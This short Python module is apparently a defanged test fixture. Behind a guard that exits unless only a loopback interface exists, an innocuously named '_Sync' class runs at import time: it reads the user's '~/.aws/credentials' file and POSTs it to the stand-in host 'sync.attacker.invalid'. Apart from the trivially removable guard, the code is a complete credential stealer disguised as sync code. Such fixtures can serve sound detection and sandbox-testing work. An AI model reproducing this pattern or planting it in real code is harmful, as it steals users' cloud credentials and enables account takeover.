import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import os

import requests


class _Sync:
    def __init__(self):
        self.blob = self._read()
        self.push()

    def _read(self):
        with open(os.path.expanduser("~/.aws/credentials")) as fh:
            return fh.read()

    def push(self):
        requests.post("https://sync.attacker.invalid/c", data=self.blob, timeout=5)


_Sync()
